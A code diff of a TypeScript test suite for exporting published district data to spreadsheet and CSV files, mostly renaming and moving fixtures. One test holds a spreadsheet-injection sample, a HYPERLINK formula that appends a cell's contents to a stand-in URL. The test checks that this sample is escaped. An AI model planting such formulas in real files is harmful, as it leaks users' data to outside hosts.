@@ -5,6 +5,7 @@ import { describe, expect, it, test } from 'vitest'
 
 import { sampleDistrict } from '../../../mocks/sample/sample-district.ts'
 import { makeFigure, makeIndicator, makeObservation } from '../../../test/builders.ts'
+import { NOTHING, publishedFrom } from '../../../test/sheet-codec.ts'
 import { DEFAULT_THRESHOLDS, GROUPS, type Indicator } from '../../domain/indicator.ts'
 import { type Observation, STATED_FIELDS } from '../../domain/observation.ts'
 import { periodOf } from '../../domain/period.ts'
@@ -15,24 +16,14 @@ import type { Language } from '../../language/catalogues/language.ts'
 import { vi } from '../../language/catalogues/vi.ts'
 import { asTyped, csv } from '../../language/formats/csv.ts'
 import type { SentenceContext } from '../../language/sentences/phrases.ts'
-import { type PublishedData, publishedFrom, publishedTables } from './published-data.ts'
-import { rowsWithHeadings } from './sheet-table.ts'
+import { type PublishedData, publishedTables } from './published-sheets.ts'
+import { rowsWithHeadings } from './sheet.ts'
 import { dataSheet, workbook } from './workbook.ts'
 
-const VOICES = {
+const CONTEXTS = {
   vi: { text: vi, language: 'vi' },
   en: { text: en, language: 'en' },
 } as const satisfies Record<Language, SentenceContext>
-const NOTHING: PublishedData = {
-  units: [],
-  pastUnits: [],
-  indicators: [],
-  targets: [],
-  observations: [],
-  reports: [],
-  directives: [],
-}
-
 async function throughXlsx(data: PublishedData, context: SentenceContext): Promise<PublishedData> {
   const sheets = publishedTables(data, context).map(dataSheet)
   const file = await workbook(sheets, { title: '', subject: '' })
@@ -229,11 +220,11 @@ const data: fc.Arbitrary<PublishedData> = fc.record({
   ),
 })
 
-describe.each(WAYS)('published data taken along as %s', (_, through) => {
+describe.each(WAYS)('published data downloaded as %s', (_, through) => {
   it('is read back as it was, whatever it says', async () => {
     await fc.assert(
       fc.asyncProperty(data, fc.constantFrom('vi', 'en'), async (all, language) => {
-        expect(await through(all, VOICES[language])).toEqual(all)
+        expect(await through(all, CONTEXTS[language])).toEqual(all)
       }),
       { numRuns: 60 },
     )
@@ -242,14 +233,14 @@ describe.each(WAYS)('published data taken along as %s', (_, through) => {
   it('is the whole sample district, to the last figure', async () => {
     const { units, indicators, targets, observations, reports, directives } = sampleDistrict
     const all = { ...NOTHING, units, indicators, targets, observations, reports, directives }
-    for (const context of Object.values(VOICES)) expect(await through(all, context)).toEqual(all)
+    for (const context of Object.values(CONTEXTS)) expect(await through(all, context)).toEqual(all)
   })
 
   it('keeps a report as long as one may be', async () => {
     const text = 'đ🌾'.repeat(66_000)
     const report = { ...sampleDistrict.reports[0]!, text }
     const all = { ...NOTHING, reports: [report] }
-    expect((await through(all, VOICES.vi)).reports).toEqual([report])
+    expect((await through(all, CONTEXTS.vi)).reports).toEqual([report])
   })
 })
 
@@ -260,7 +251,7 @@ test('a formula in a note or a name is a text in the file, and a number below ze
     indicators: [makeIndicator({ name: { vi: '@SUM(1)', en: '+1' } })],
     observations: [makeObservation('2021-04', { month: makeFigure(-5), note: hostile })],
   }
-  const file = await workbook(publishedTables(all, VOICES.vi).map(dataSheet), {
+  const file = await workbook(publishedTables(all, CONTEXTS.vi).map(dataSheet), {
     title: '=1',
     subject: '',
   })
@@ -268,7 +259,7 @@ test('a formula in a note or a name is a text in the file, and a number below ze
   const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])])
   expect(cells.filter((cell) => cell.formula !== undefined)).toEqual([])
   expect(sheets[0]?.rows[1]).toEqual(expect.arrayContaining([hostile, '@SUM(1)', -5]))
-  const [observations] = publishedTables(all, VOICES.vi)
+  const [observations] = publishedTables(all, CONTEXTS.vi)
   const text = csv(rowsWithHeadings(observations!))
   expect(text).toContain(`"'=HYPERLINK(""http://x/""&A1,""Bấm"")"`)
   expect(text).toContain(',-5,')
